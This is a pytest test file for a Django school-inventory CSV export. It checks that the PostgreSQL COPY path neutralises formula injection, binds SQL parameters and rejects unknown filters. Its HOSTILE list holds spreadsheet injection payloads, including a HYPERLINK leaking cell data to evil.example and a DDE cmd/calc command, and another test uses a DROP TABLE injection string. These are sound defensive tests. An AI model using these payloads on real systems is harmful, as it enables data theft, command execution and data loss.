"""Large exports written by PostgreSQL's COPY (schools.exports.queryset_csv_response).

The COPY path restates ``neutralise`` and csv's quoting in SQL; these tests hold it to the
same bytes as the Python path on hostile data, keep the page's scoping and filters, and
refuse an export whose filter was not understood.
"""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.db import connection
from django.db.models import (
    BooleanField,
    CharField,
    DateTimeField,
    DecimalField,
    Func,
    IntegerField,
    Value,
)
from django.urls import reverse
from django.utils import timezone

from equity.inventory.models import Device
from schools import exports
from schools.exports import (
    FORMULA_PREFIXES,
    CsvColumn,
    column_values,
    copy_chunks,
    copy_statement,
    csv_response,
    queryset_csv_response,
)
from tests.factories import DeviceFactory, open_assignment

on_postgresql = pytest.mark.skipif(
    connection.vendor != "postgresql", reason="COPY is PostgreSQL's; SQLite keeps csv_response"
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    'Cart "A", shelf 2',
    "Niño\nsecond line",
    "line\r\nbreak",
    "ends with CR\r",
    " =1 leading space",
    "a=b",
    "'already quoted",
    "tab\tinside",
    "",
    "日本語, 中文",
    '"',
    ",",
    "\\.",
    "emoji 🎒",
]


def _columns():
    return [
        CsvColumn("asset tag", "asset_tag"),
        CsvColumn("=serial", "serial_number"),
        CsvColumn("notes", "notes"),
        CsvColumn("school", "school__name"),
        CsvColumn("bought", "purchase_date"),
        CsvColumn("changed", "updated_at"),
        CsvColumn("price", Value(Decimal("-12.345"), output_field=DecimalField())),
        CsvColumn("count", Value(-3, output_field=IntegerField())),
        CsvColumn("zero", Value(Decimal("-0.001"), output_field=DecimalField())),
        CsvColumn("flag", Value(True, output_field=BooleanField())),
        CsvColumn("when", Value(datetime(2026, 8, 15, 22, 30, tzinfo=UTC), DateTimeField())),
    ]


def _hostile_devices(school):
    for i, text in enumerate(HOSTILE):
        DeviceFactory(
            school=school,
            asset_tag=f"T-{i:02d}",
            serial_number=text[:100] or f"SN-{i}",
            notes=text,
            purchase_date=date(2024, 1, 1 + i) if i % 3 else None,
        )


def _body(response) -> bytes:
    return b"".join(response.streaming_content)


@on_postgresql
@pytest.mark.django_db
def test_copy_writes_the_same_bytes_as_the_python_path(maple):
    _hostile_devices(maple)
    devices = Device.objects.order_by("asset_tag")
    columns = _columns()

    with timezone.override("America/Chicago"):
        by_copy = _body(queryset_csv_response("d.csv", columns, devices))
        rows = column_values(devices, columns).iterator()
        by_python = _body(csv_response("d.csv", [c.header for c in columns], rows))

    assert by_copy == by_python
    parsed = list(csv.reader(io.StringIO(by_copy.decode("utf-8-sig"))))
    assert len(parsed) == len(HOSTILE) + 1
    notes = [row[2] for row in parsed[1:]]
    for text in HOSTILE:
        assert ("'" + text if text.startswith(FORMULA_PREFIXES) else text) in notes
    assert parsed[1][5:] == [parsed[1][5], "-12.35", "-3", "0", "True", "2026-08-15 17:30"]


@on_postgresql
@pytest.mark.django_db
def test_the_statement_keeps_its_parameters_bound(maple):
    DeviceFactory(school=maple, asset_tag="X'); DROP TABLE equity_device; --")
    devices = Device.objects.filter(asset_tag__startswith="X');")
    statement = copy_statement(devices, [CsvColumn("tag", "asset_tag")])
    body = b"".join(copy_chunks(statement))
    assert body == b"X'); DROP TABLE equity_device; --\n"
    assert Device.objects.count() == 1


@on_postgresql
@pytest.mark.django_db(transaction=True)  # autocommit, as a streamed response is
def test_a_download_closed_early_leaves_the_connection_usable(maple):
    model = DeviceFactory(school=maple, asset_tag="B-00000").model
    Device.objects.bulk_create(
        Device(
            school=maple,
            district=maple.district,
            model=model,
            maker=model.maker,
            asset_tag=f"B-{i:05d}",
            serial_number=f"SN-B-{i}",
        )
        for i in range(1, 3000)
    )
    statement = copy_statement(
        Device.objects.order_by("asset_tag"),
        [CsvColumn("tag", "asset_tag"), CsvColumn("notes", Value("x" * 2000))],
    )
    chunks = copy_chunks(statement)
    assert next(chunks)
    chunks.close()  # the person cancelled the download
    assert Device.objects.filter(asset_tag="B-00001").exists()
    with connection.cursor() as cursor:  # the COPY's settings ended with it
        cursor.execute("SHOW enable_sort")
        assert cursor.fetchone() == ("on",)


@on_postgresql
@pytest.mark.django_db
def test_sorts_are_discouraged_only_for_an_export_expected_large(maple, monkeypatch):
    # Forbidding the sort of a school's few hundred rows made PostgreSQL walk the whole
    # district's index in order instead (1 s for 587 devices at a million); a district's
    # million rows must stream from the index, not wait for a sort. The setting in force
    # during the COPY is one of its columns here.
    DeviceFactory.create_batch(3, school=maple)
    setting = Func(Value("enable_sort"), function="current_setting", output_field=CharField())
    statement = copy_statement(
        Device.objects.order_by("asset_tag", "pk"), [CsvColumn("enable_sort", setting)]
    )
    assert b"".join(copy_chunks(statement)) == b"on\non\non\n"
    monkeypatch.setattr(exports, "STREAM_FROM_INDEX_ROWS", 1)
    assert b"".join(copy_chunks(statement)) == b"off\noff\noff\n"


URL = reverse("equity:inventory")


def _csv_rows(response):
    return list(csv.reader(io.StringIO(_body(response).decode("utf-8-sig"))))


@pytest.mark.django_db
def test_the_export_keeps_the_pages_scope_and_filters(login, tech, cedar, maple):
    DeviceFactory(school=maple, asset_tag="MAPLE-1")
    cedar_out = DeviceFactory(school=cedar, asset_tag="CEDAR-1")
    DeviceFactory(school=cedar, asset_tag="CEDAR-2", status="in_repair")
    assignment = open_assignment(cedar, grade=5)
    held = assignment.device

    rows = _csv_rows(login(tech).get(URL, {"format": "csv"}))
    tags = [row[0] for row in rows[1:]]
    assert "MAPLE-1" not in tags
    assert {"CEDAR-1", "CEDAR-2", held.asset_tag} == set(tags)
    holder = {row[0]: row[8] for row in rows[1:]}
    assert holder[held.asset_tag] == assignment.student.local_id
    assert holder[cedar_out.asset_tag] == ""

    only_repair = _csv_rows(login(tech).get(URL, {"format": "csv", "status": "in_repair"}))
    assert [row[0] for row in only_repair[1:]] == ["CEDAR-2"]


@pytest.mark.django_db
def test_a_district_admin_exports_every_school(login, district_admin, cedar, maple):
    DeviceFactory(school=maple, asset_tag="MAPLE-1")
    DeviceFactory(school=cedar, asset_tag="CEDAR-1")
    rows = _csv_rows(login(district_admin).get(URL, {"format": "csv"}))
    assert [row[0] for row in rows[1:]] == ["CEDAR-1", "MAPLE-1"]


@pytest.mark.django_db
@pytest.mark.parametrize(
    "bad", [{"status": "melted"}, {"school": "999999"}, {"model": "x"}, {"q": "a\x00b"}]
)
def test_an_export_with_a_filter_not_understood_exports_nothing(login, tech, cedar, bad):
    DeviceFactory(school=cedar, asset_tag="CEDAR-1")
    response = login(tech).get(URL, {"format": "csv", **bad})
    assert response.status_code == 400
    assert not response.streaming
    assert response["Content-Type"].startswith("text/html")
    assert b"Nothing was exported" in response.content
